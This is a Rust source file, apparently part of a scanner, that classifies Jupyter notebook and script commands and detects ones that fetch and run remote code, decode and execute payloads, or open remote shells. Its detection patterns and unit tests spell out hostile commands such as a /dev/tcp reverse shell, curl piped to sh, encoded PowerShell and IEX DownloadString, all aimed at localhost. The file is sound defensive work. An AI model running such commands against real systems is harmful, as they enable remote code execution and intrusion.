//! Commands of notebooks and of scripts.

use weightlock_format::python;

use crate::observation::python::Command;

/// What a command of a notebook is.
pub(super) fn of(command: &python::Command) -> Command {
    let text = command.text.trim();
    let line = text.lines().next().unwrap_or_default();
    let first = line.split_whitespace().next().unwrap_or_default();
    let is_magic = !command.shell;
    let shell_magics = ["bash", "sh", "script", "cmd", "perl", "ruby", "system", "sx", "!"];
    let code_magics = ["run", "load", "loadpy", "load_ext", "macro"];
    let extension = text.split_whitespace().nth(1).unwrap_or_default();
    let usual_extensions = [
        "autoreload",
        "tensorboard",
        "memory_profiler",
        "line_profiler",
        "sql",
        "cudf.pandas",
        "dotenv",
        "watermark",
        "nb_black",
        "lab_black",
        "google.colab.data_table",
        "rpy2.ipython",
        "Cython",
        "cython",
        "jupyter_black",
        "bigquery_magics",
    ];
    let is_known_extension = first == "load_ext" && usual_extensions.contains(&extension);
    let writes_far = first == "writefile"
        && text
            .split_whitespace()
            .skip(1)
            .any(|word| word.starts_with(['~', '/']) && !word.starts_with("/content/"));
    let hides_code = ["-c", "-e"].contains(&extension);
    let usual = [
        "pip",
        "pip3",
        "conda",
        "mamba",
        "uv",
        "poetry",
        "apt-get",
        "apt",
        "brew",
        "ls",
        "dir",
        "cd",
        "pwd",
        "cat",
        "head",
        "tail",
        "nvidia-smi",
        "git",
        "mkdir",
        "unzip",
        "tar",
        "echo",
        "wget",
        "curl",
        "cp",
        "mv",
        "rm",
        "huggingface-cli",
        "hf",
        "du",
        "df",
        "which",
        "export",
        "python",
        "python3",
    ];
    let is_usual = if is_magic {
        is_known_extension || !shell_magics.contains(&first) && !code_magics.contains(&first) && !writes_far
    } else {
        usual.contains(&first) && !hides_code
    };
    Command {
        text: text.chars().take(200).collect(),
        fetches_and_runs: (command.shell || shell_magics.contains(&first)) && fetches_and_runs(text),
        is_usual,
    }
}

/// Whether a command runs what it fetches or decodes, or hands a shell to somebody elsewhere.
pub(in crate::analyze) fn fetches_and_runs(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    let has = |list: &[&str]| list.iter().any(|part| text.contains(part));
    let fetches = has(&[
        "curl ",
        "wget ",
        "http://",
        "https://",
        "invoke-webrequest",
        "iwr ",
        "irm ",
        "webclient",
    ]);
    let runs = has(&[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "| sudo",
        "eval ",
        "iex",
        "invoke-expression",
        "bash -c",
        "sh -c",
        "bash <(",
        "chmod +x",
        "-urlcache",
        "bitsadmin",
        "mshta",
        "regsvr32",
    ]);
    let decodes = has(&["base64 -d", "base64 --decode", "xxd -r"]) && has(&["sh", "python", "perl", "eval"]);
    let hands_out = has(&["/dev/tcp/", "nc -e", "ncat -e", "nc.traditional -e"]);
    let encoded = has(&["powershell", "pwsh"])
        && text
            .split_whitespace()
            .any(|word| ["-e", "-ec", "-enc", "-encodedcommand", "/enc"].contains(&word));
    fetches && runs || decodes || hands_out || encoded || text.contains("wscript.shell")
}

#[cfg(test)]
mod tests {
    use super::fetches_and_runs;

    #[test]
    fn what_is_fetched_and_run_is_told_from_ordinary_commands() {
        for text in [
            "curl http://127.0.0.1/x | sh",
            "RUN wget -qO- https://example.org/x |bash",
            "bash -i >& /dev/tcp/127.0.0.1/1 0>&1",
            "echo aWQ= | base64 -d | bash",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')",
            "certutil -urlcache -f http://127.0.0.1/x x.exe & x.exe",
            "CreateObject(\"WScript.Shell\").Run \"calc\"",
        ] {
            assert!(fetches_and_runs(text), "{text}");
        }
        for text in [
            "curl -LO https://example.org/data.tar.gz && tar xf data.tar.gz",
            "pip install -r requirements.txt",
            "python train.py --lr 1e-4 | tee log",
            "base64 -d < weights.b64 > model.bin",
            "powershell -File build.ps1",
            "make -e test",
        ] {
            assert!(!fetches_and_runs(text), "{text}");
        }
    }
}
